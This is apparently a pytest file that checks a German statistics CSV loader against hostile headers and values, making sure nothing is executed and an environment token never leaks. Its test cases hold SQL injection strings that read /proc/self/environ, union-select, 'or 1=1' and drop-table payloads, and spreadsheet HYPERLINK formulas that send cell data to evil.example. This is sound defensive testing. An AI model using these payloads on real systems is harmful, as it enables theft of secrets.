"""Hostile headers and values in GENESIS flat-file CSVs (Regionalstatistik flat and ffcsv, Zensus 2022 ffcsv).

Each input either loads cleanly (the odd text kept as text, bad values quarantined with a reason) or
is rejected with one line naming the source, the file and the problem. Nothing in a file is ever
executed: the account token in the environment never reaches raw, quarantine, state or the log.
"""

from __future__ import annotations

from pathlib import Path

import duckdb
import pytest

from regiohub.core import settings
from regiohub.core.errors import SourceError
from regiohub.ingest.source import ingest_source

SECRET = "tok-4711-do-not-leak"
ENVIRON = "read_text('/proc/self/environ')"
FLAT_HEADER = ("Statistik_Code;Statistik_Label;Zeit_Code;Zeit_Label;Zeit;1_Merkmal_Code;1_Merkmal_Label;"
               "1_Auspraegung_Code;1_Auspraegung_Label;{value}")
FLAT_ROW = "12411;Bevölkerungsstand;STAG;Stichtag;31.12.2023;GEMEIN;Gemeinden;{ags};{name};{value}"
FFCSV_HEADER = ("statistics_code;statistics_label;time_code;time_label;time;1_variable_code;1_variable_label;"
                "1_variable_attribute_code;1_variable_attribute_label;value;value_unit;value_variable_code;"
                "value_variable_label;value_q")
REGIO_ROW = ("12411;Fortschreibung des Bevölkerungsstandes;STAG;Stichtag;2023-12-31;GEMEIN;Gemeinden;{ags};{name};"
             "{value};Anzahl;BEVSTD;Bevölkerungsstand;e")
ZENSUS_ROW = ("1000A;Bevölkerung kompakt (Gebietsstand 15.05.2022);STAG;Stichtag;2022-05-15;GEOGM4;"
              "Gemeinden (Gebietsstand 15.05.2022);{ars};{name};{value};Anzahl;PRS018;Personen;e")

# (case id, header, rows as (key, name, value), expected): "loaded", "loaded:<quarantine reason>" or "error:<text>"
INJECTED = f'x" || {ENVIRON} || "'
UNION = f"') union select content from {ENVIRON} --"
FLAT_CASES = [
    ("value-column-sql", f"BEVSTD__{INJECTED}__Anzahl", None, "loaded"),
    ("value-column-subquery", f'BEVSTD__x", (select content from {ENVIRON}) as "y__Anzahl', None, "loaded"),
    ("value-column-quote", "BEVSTD__it's \"quoted\"__Anzahl", None, "loaded"),
    ("value-column-semicolon-comment", "BEVSTD__a); drop table x; --__Anzahl", None,
     "error:no <CODE>__<label>__<unit> column"),  # the ';' splits the value column's name
    ("key-column-replaced", f"BEVSTD__Bevoelkerungsstand__Anzahl;{ENVIRON}", None, "error:cannot read"),
    ("no-value-column", f"{ENVIRON}", None, "error:no <CODE>__<label>__<unit> column"),
    ("nul-in-header", "BEVSTD__Bev\x00__Anzahl", None, "error:contains NUL bytes"),
    ("very-long-header", "BEVSTD__" + "A" * 70_000 + "__Anzahl", None, "error:header line longer than"),
    ("formula-header", '=HYPERLINK("http://evil.example/?"&A1,"x")__Bev__Anzahl', None,
     "error:no <CODE>__<label>__<unit> column"),
    ("dollar-parameter-names", "BEVSTD__$file__$payload", None, "loaded"),
    ("formula-value", "BEVSTD__Bev__Anzahl", ("12054000", "Potsdam", '=HYPERLINK("x")'),
     "loaded:unreadable number"),
    ("sql-in-label", "BEVSTD__Bev__Anzahl", ("12054000", UNION, "183000"), "loaded"),
    ("sql-in-key", "BEVSTD__Bev__Anzahl", ("12054000' or 1=1 --", "Potsdam", "183000"),
     "loaded:unknown region key"),
]
FFCSV_CASES = [
    ("extra-sql-column", f"{FFCSV_HEADER};{ENVIRON}", None, "error:cannot read"),
    ("renamed-value-column", FFCSV_HEADER.replace(";value;", f";{INJECTED};"), None,
     "error:unknown column layout"),
    ("quoted-header", FFCSV_HEADER.replace("value_q", 'value_q"; select 1; --'), None, "error:cannot read"),
    ("nul-in-header", FFCSV_HEADER.replace("value_unit", "value_unit\x00"), None, "error:contains NUL bytes"),
    ("very-long-header", FFCSV_HEADER.replace("value_q", "q" * 70_000), None, "error:header line longer than"),
    ("duplicate-value-column", FFCSV_HEADER.replace("value_q", "value"), None, "loaded"),
    ("sql-in-value", FFCSV_HEADER, ("{key3}", "Potsdam", f"1{UNION}"), "loaded:unreadable number"),
    ("semicolon-in-value", FFCSV_HEADER, ("{key3}", "Potsdam", f"1); select {ENVIRON}; --"), "error:cannot read"),
    ("nan", FFCSV_HEADER, ("{key3}", "Potsdam", "NaN"), "loaded:unreadable number"),
    ("inf", FFCSV_HEADER, ("{key3}", "Potsdam", "inf"), "loaded:unreadable number"),
    ("overflow", FFCSV_HEADER, ("{key3}", "Potsdam", "1e400"), "loaded:unreadable number"),
    ("formula-in-label", FFCSV_HEADER, ("{key3}", '=HYPERLINK("http://evil.example","klick")', "183000"), "loaded"),
    ("secret-flag", FFCSV_HEADER, ("{key3}", "Potsdam", "."), "loaded:value withheld by the publisher"),
    ("not-a-number", FFCSV_HEADER, ("{key3}", "Potsdam", "zwei"), "loaded:unreadable number"),
]
GOOD = [("{key}", "Ludwigsfelde", "27633"), ("{key2}", "Luckenwalde", "20412")]
KEYS = {"flat": ("12072240", "12072232", "12054000"), "regionalstatistik": ("12072240", "12072232", "12054000"),
        "zensus": ("120720240240", "120720232232", "120540000000")}


def _file(tmp_path: Path, kind: str, header: str, bad: tuple[str, str, str] | None) -> Path:
    key, key2, key3 = KEYS[kind]
    row = {"flat": FLAT_ROW, "regionalstatistik": REGIO_ROW, "zensus": ZENSUS_ROW}[kind]
    if kind == "flat":
        header = FLAT_HEADER.format(value=header)
    rows = [*GOOD, *([bad] if bad else [])]
    lines = [header] + [
        row.format(ags=k.format(key=key, key2=key2, key3=key3), ars=k.format(key=key, key2=key2, key3=key3),
                   name=n, value=v)
        for k, n, v in rows
    ]
    path = tmp_path / f"{kind}_hostile.csv"
    path.write_bytes(("\ufeff" + "\n".join(lines) + "\n").encode("utf-8"))
    return path


def _everything_written(data: Path) -> str:
    """All text the load left behind: state, ingest log and every cell of raw and quarantine."""
    texts = [p.read_text(errors="replace") for p in data.rglob("*") if p.suffix in (".json", ".jsonl")]
    for parquet in data.rglob("*.parquet"):
        texts.append(str(duckdb.execute("select * from read_parquet(?)", [str(parquet)]).fetchall()))
    return "\n".join(texts)


def _run(data_dir: Path, source: str, path: Path, expected: str) -> None:
    data = settings.paths(data_dir)
    if expected.startswith("error:"):
        with pytest.raises(SourceError) as err:
            ingest_source(source, from_path=path, data=data)
        message = str(err.value)
        assert message.startswith(f"{source}: ") and "\n" not in message
        assert expected.removeprefix("error:") in message and path.name in message, message
    else:
        result = ingest_source(source, from_path=path, data=data)
        assert result.status == "loaded" and result.rows["values"] >= 2
        reasons = result.quarantined.get("values", {})
        if ":" in expected:
            assert any(r.startswith(expected.split(":", 1)[1]) for r in reasons), reasons
        else:
            assert not reasons, reasons
    written = _everything_written(data_dir)
    assert SECRET not in written and "PATH=" not in written


@pytest.fixture(autouse=True)
def _secret(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("REGIOHUB_REGIONALSTATISTIK_TOKEN", "REGIOHUB_ZENSUS_TOKEN", "HOSTILE_PROBE"):
        monkeypatch.setenv(name, SECRET)


@pytest.mark.parametrize(("case", "header", "bad", "expected"), FLAT_CASES, ids=[c[0] for c in FLAT_CASES])
def test_regionalstatistik_flat_layout(data_dir, tmp_path, case, header, bad, expected):
    _run(data_dir, "regionalstatistik_bevoelkerung", _file(tmp_path, "flat", header, bad), expected)


@pytest.mark.parametrize(("case", "header", "bad", "expected"), FFCSV_CASES, ids=[c[0] for c in FFCSV_CASES])
def test_regionalstatistik_ffcsv(data_dir, tmp_path, case, header, bad, expected):
    _run(data_dir, "regionalstatistik_bevoelkerung", _file(tmp_path, "regionalstatistik", header, bad), expected)


@pytest.mark.parametrize(("case", "header", "bad", "expected"), FFCSV_CASES, ids=[c[0] for c in FFCSV_CASES])
def test_zensus_ffcsv(data_dir, tmp_path, case, header, bad, expected):
    _run(data_dir, "zensus2022_bevoelkerung", _file(tmp_path, "zensus", header, bad), expected)


def test_hostile_label_is_kept_as_plain_text(data_dir, tmp_path):
    """The injected SQL in a label is stored verbatim: proof that it was data, never code."""
    label = UNION
    path = _file(tmp_path, "regionalstatistik", FFCSV_HEADER, ("12054000", label, "183000"))
    ingest_source("regionalstatistik_bevoelkerung", from_path=path, data=settings.paths(data_dir))
    got = duckdb.execute(
        "select region_label from read_parquet(?) where region_code = '12054000'",
        [str(next((data_dir / "raw").rglob("*.parquet")))],
    ).fetchall()
    assert got == [(label,)]
